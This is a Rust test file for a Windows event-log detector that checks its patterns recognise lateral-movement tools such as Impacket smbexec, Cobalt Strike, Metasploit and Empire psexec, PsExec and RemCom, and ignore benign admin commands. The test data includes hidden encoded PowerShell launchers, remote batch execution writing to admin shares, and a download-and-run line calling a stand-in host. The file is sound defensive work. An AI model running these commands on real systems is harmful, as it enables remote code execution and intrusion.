//! Every form of every tool's artifact fires its fingerprint (#26): from each tool's documented
//! service command (the tool's code, cited in `assets/patterns.toml`), the forms Windows logs
//! it in: 7045 `ImagePath` / 4697 `ServiceFileName` as written, Sysmon 13's `Details` with
//! doubled percent signs, the 4688 / Sysmon 1 `CommandLine` of the process the SCM started
//! (variables expanded, the shell's full path, quoted or not, any case, spacing), the child's
//! `ParentCommandLine`, and the child's own command. Admins' look-alikes stay quiet.

use super::patterns::{Patterns, normalize_command};

/// (tool id, documented service command, the child process's own command line).
const TOOLS: &[(&str, &str, Option<&str>)] = &[
    (
        "impacket-smbexec",
        "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat",
        Some("%COMSPEC% /Q /c %TEMP%\\execute.bat"),
    ),
    (
        "impacket-smbexec",
        "%COMSPEC% /Q /c echo cd ^> \\\\%COMPUTERNAME%\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\qWeRtYuI.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\qWeRtYuI.bat & del %SYSTEMROOT%\\qWeRtYuI.bat",
        Some("%COMSPEC% /Q /c %SYSTEMROOT%\\qWeRtYuI.bat"),
    ),
    (
        "netexec-smbexec",
        "%COMSPEC% /Q /c echo hostname ^> \\\\127.0.0.1\\C$\\aBcDeF 2^>^&1 > %SYSTEMROOT%\\TEMP\\xYzWvU.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\TEMP\\xYzWvU.bat & del %SYSTEMROOT%\\TEMP\\xYzWvU.bat",
        None,
    ),
    (
        "cobaltstrike-psexec-psh",
        "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==",
        Some(
            "powershell  -nop -w hidden -encodedcommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==",
        ),
    ),
    (
        "metasploit-psexec-psh",
        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName=$b\"",
        Some(
            "powershell.exe -nop -w hidden -noni -c \"if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo\"",
        ),
    ),
    (
        // A release without -noni, the stub encoded.
        "metasploit-psexec-psh",
        "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -e aQBmACgAWwBJAG4AdABQAHQAcgBdADoAOgBTAGkAegBlACAALQBlAHEAIAA0ACkAewAkAGIAPQAnAHAAbwB3AGUAcgBzAGgAZQBsAGwALgBlAHgAZQAnAH0A",
        Some(
            "powershell -nop -w hidden -e aQBmACgAWwBJAG4AdABQAHQAcgBdADoAOgBTAGkAegBlACAALQBlAHEAIAA0ACkAewAkAGIAPQAnAHAAbwB3AGUAcgBzAGgAZQBsAGwALgBlAHgAZQAnAH0A",
        ),
    ),
    (
        "empire-psexec",
        "%COMSPEC% /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBlAHIAUwBJAG8ATgBUAGEAYgBMAEUALgBQAFMAVgBFAHIAcwBpAE8AbgAuAE0AQQBKAG8AUgA=",
        Some(
            "C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBlAHIAUwBJAG8ATgBUAGEAYgBMAEUALgBQAFMAVgBFAHIAcwBpAE8AbgAuAE0AQQBKAG8AUgA=",
        ),
    ),
];

/// The forms a documented service command takes in the logs svchop reads.
fn forms(command: &str) -> Vec<(String, String)> {
    let expanded = command
        .replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe")
        .replace("%SYSTEMROOT%", "C:\\Windows")
        .replace("%TEMP%", "C:\\Windows\\TEMP")
        .replace("%COMPUTERNAME%", "WS02");
    let quoted = expanded.replacen(
        "C:\\Windows\\system32\\cmd.exe",
        "\"C:\\WINDOWS\\System32\\cmd.exe\"",
        1,
    );
    vec![
        (
            "7045 ImagePath / 4697 ServiceFileName".into(),
            command.to_string(),
        ),
        ("Sysmon 13 Details".into(), command.replace('%', "%%")),
        ("4688 / Sysmon 1 CommandLine".into(), expanded.clone()),
        ("CommandLine, quoted shell path".into(), quoted),
        ("CommandLine, upper case".into(), expanded.to_uppercase()),
        (
            "CommandLine, runs of spaces".into(),
            expanded.replace(' ', "  "),
        ),
        (
            "CommandLine, cmd without .exe".into(),
            expanded.replace("C:\\Windows\\system32\\cmd.exe", "cmd"),
        ),
    ]
}

#[test]
fn every_tool_fires_on_every_form_windows_logs() {
    let p = Patterns::builtin().unwrap();
    let id = |t: Option<usize>| t.map(|t| p.tools[t].id.clone());
    for (tool, command, child) in TOOLS {
        for (source, form) in forms(command) {
            assert_eq!(
                id(p.tool_for_command(&form)).as_deref(),
                Some(*tool),
                "{source}: {form}\n(normalized: {})",
                normalize_command(&form)
            );
            assert_eq!(
                id(p.tool_for_service(Some("anything"), Some(&form))).as_deref(),
                Some(*tool),
                "{source} as a service image: {form}"
            );
        }
        if let Some(child) = child {
            let expanded = child
                .replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe")
                .replace("%SYSTEMROOT%", "C:\\Windows")
                .replace("%TEMP%", "C:\\Windows\\TEMP");
            assert_eq!(
                id(p.tool_for_command(&expanded)).as_deref(),
                Some(*tool),
                "child CommandLine: {expanded}"
            );
        }
    }
}

#[test]
fn documented_look_alikes_stay_quiet() {
    let p = Patterns::builtin().unwrap();
    for benign in [
        "cmd.exe /c echo hello > C:\\temp\\out.txt",
        "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\VMware\\VMware Tools\\resume-vm-default.bat\"\"",
        "cmd /Q /c echo %date% >> \\\\fileserver\\logs\\boot.log",
        "cmd.exe /c start /b powershell.exe -File C:\\scripts\\inventory.ps1",
        "powershell.exe -nop -w hidden -File C:\\scripts\\tray.ps1",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
        "cmd /q /c C:\\scripts\\nightly-backup.bat",
        "C:\\Windows\\system32\\cmd.exe /C ipconfig",
        "\"C:\\Program Files\\Google\\Update\\GoogleUpdate.exe\" /svc",
        "",
    ] {
        assert_eq!(p.tool_for_command(benign), None, "{benign}");
        assert_eq!(
            p.tool_for_service(Some("Backup"), Some(benign)),
            None,
            "{benign}"
        );
    }
}

/// Metasploit's generated service names fire on every event that names a service; a product's
/// CamelCase names of the same length do not.
#[test]
fn generated_names_fire_on_any_event_naming_a_service() {
    let p = Patterns::builtin().unwrap();
    for random in ["qWeRtYuIoPaSdFgH", "ZxCvBnMaSdFgHjKl", "hGfDsAlKjHgFdSaZ"] {
        let t = p.tool_for_name(random).map(|t| p.tools[t].id.as_str());
        assert_eq!(t, Some("metasploit-psexec"), "{random}");
    }
    for product in [
        "TrustedInstaller",
        "MicrosoftEdgeUpd",
        "gupdatemgupdatem",
        "WINDEFENDSERVICE",
    ] {
        assert_eq!(p.tool_for_name(product), None, "{product}");
    }
}

/// Launcher signs fire on the forms of a launcher, not on a program's own service binary.
#[test]
fn launcher_signs_fire_on_launchers_only() {
    let p = Patterns::builtin().unwrap();
    let signs =
        |c: &str| -> Vec<String> { p.launcher_signs(c).iter().map(|l| l.id.clone()).collect() };
    for (cmd, want) in [
        ("%COMSPEC% /c powershell -command \"whoami\"", "shell-c"),
        ("C:\\Windows\\system32\\cmd.exe /c whoami", "shell-c"),
        (
            "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
            "powershell-flags",
        ),
        (
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "encoded-command",
        ),
        ("cmd.exe /c echo msdhch > \\\\.\\pipe\\msdhch", "pipe-echo"),
        (
            "cmd.exe /c whoami > \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1",
            "output-to-admin-share",
        ),
        ("mshta.exe vbscript:Execute(\"x\")", "script-host"),
        ("\\\\10.0.0.5\\ADMIN$\\a1b2c3d.exe", "binary-in-user-folder"),
        ("C:\\Users\\Public\\svc.exe", "binary-in-user-folder"),
    ] {
        assert!(
            signs(cmd).iter().any(|s| s == want),
            "{cmd}: {:?}",
            signs(cmd)
        );
    }
    for own in [
        "\"C:\\Program Files\\Acme\\agent.exe\" /service",
        "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{A}\\MpKslDrv.sys",
        "\\SystemRoot\\System32\\drivers\\VBoxSF.sys",
    ] {
        assert!(signs(own).is_empty(), "{own}: {:?}", signs(own));
    }
}

/// (tool id, a pipe the tool's code opens, its helper binary's file name if it copies one).
/// PsExec: `\PSEXESVC-<client>-<pid>-stdin` (PsExec's documented pipe scheme, and the plain
/// `\PSEXESVC` control pipe); PAExec: `\PAExec-<pid>-<client>`-style names; RemCom:
/// `\RemCom_communicaton` and `\RemCom_stdin...`; winexe: `\ahexec`.
const PIPED: &[(&str, &str, Option<&str>)] = &[
    ("psexec", "PSEXESVC", Some("PSEXESVC.exe")),
    ("psexec", "PSEXESVC-ADMIN01-4242-stdin", None),
    (
        "paexec",
        "PAExec-4242-ADMIN01.exe",
        Some("PAExec-4242-ADMIN01.exe"),
    ),
    ("remcom", "RemCom_communicaton", Some("RemComSvc.exe")),
    ("remcom", "RemCom_stdin1234", None),
    ("winexe", "ahexec", Some("winexesvc.exe")),
];

/// Every form a tool's pipe name takes: Sysmon 17/18 `PipeName` (`\name`), the 5145
/// `RelativeTargetName` on IPC$ (`name`), the client's `\\.\pipe\name`; and every form its helper
/// binary's path takes: 7045 `ImagePath` (`%SystemRoot%\x.exe`), 4697 / Sysmon 1 `Image`
/// (`C:\Windows\x.exe`, any case), Sysmon 13 `Details` (`%%SystemRoot%%`), Sysmon 11
/// `TargetFilename`, 5145 `RelativeTargetName` on ADMIN$ (`x.exe`, read as `C:\Windows\x.exe`).
#[test]
fn every_tool_pipe_and_helper_fires_in_every_form() {
    let p = Patterns::builtin().unwrap();
    let id = |t: Option<usize>| t.map(|t| p.tools[t].id.clone());
    for (tool, pipe, helper) in PIPED {
        for form in [
            format!("\\{pipe}"),
            (*pipe).to_string(),
            format!("\\\\.\\pipe\\{pipe}"),
        ] {
            assert_eq!(
                p.pipe_match(&form)
                    .map(|m| p.tools[m.tool].id.clone())
                    .as_deref(),
                Some(*tool),
                "pipe {form}"
            );
        }
        let Some(helper) = helper else { continue };
        for (source, form) in [
            ("7045 ImagePath", format!("%SystemRoot%\\{helper}")),
            ("Sysmon 13 Details", format!("%%SystemRoot%%\\{helper}")),
            ("4697 / Sysmon 1 Image", format!("C:\\Windows\\{helper}")),
            (
                "Image, upper case",
                format!("C:\\WINDOWS\\{}", helper.to_uppercase()),
            ),
            ("Sysmon 11 TargetFilename", format!("C:\\Windows\\{helper}")),
            (
                "5145 ADMIN$ write, as read",
                format!("C:\\Windows\\{helper}"),
            ),
        ] {
            assert_eq!(
                id(p.tool_for_service(None, Some(&form))).as_deref(),
                Some(*tool),
                "{source}: {form}"
            );
        }
        assert_eq!(
            id(p.tool_for_image(&format!("C:\\Windows\\{helper}"))).as_deref(),
            Some(*tool),
            "process Image of {helper}"
        );
    }
    // Look-alikes: a pipe or binary that only contains a tool's name stays quiet.
    for pipe in ["\\MSSQL$PSEXESVCDB\\sql\\query", "\\lsass", "\\srvsvc"] {
        assert_eq!(p.pipe_match(pipe).map(|m| m.tool), None, "{pipe}");
    }
    assert_eq!(id(p.tool_for_image("C:\\Tools\\NotPSEXESVC.exe.bak")), None);
}
